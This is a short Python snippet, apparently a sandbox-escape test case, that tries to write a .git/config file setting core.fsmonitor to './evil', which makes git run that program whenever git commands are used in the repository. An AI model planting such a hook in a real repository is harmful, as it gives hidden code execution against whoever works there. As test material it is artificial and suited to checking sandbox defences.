# plain: open
# process: undone
# namespace: held
from escape import *
attempt(lambda: write(".git/config", "[core]\n\tfsmonitor = ./evil"))
